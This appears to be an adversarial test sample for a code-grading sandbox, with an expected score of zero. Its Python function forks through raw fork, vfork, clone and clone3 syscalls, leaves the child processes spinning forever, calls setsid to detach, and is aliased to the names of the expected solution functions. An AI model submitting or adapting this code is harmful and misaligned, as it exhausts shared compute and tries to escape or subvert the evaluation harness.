#: says = "A daemon: double fork, new session, new name."
#: at_most = 0.0
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def daemon(*args, **kwargs):
    for number in (57, 58, 56, 435):  # fork, vfork, clone, clone3
        if libc.syscall(number, 0, 0, 0, 0, 0) == 0:
            while True:
                pass
    try:
        os.setsid()
    except OSError:
        pass


truth_table = mp_neuron = gate = literal_clause = xor_network = is_representable = daemon
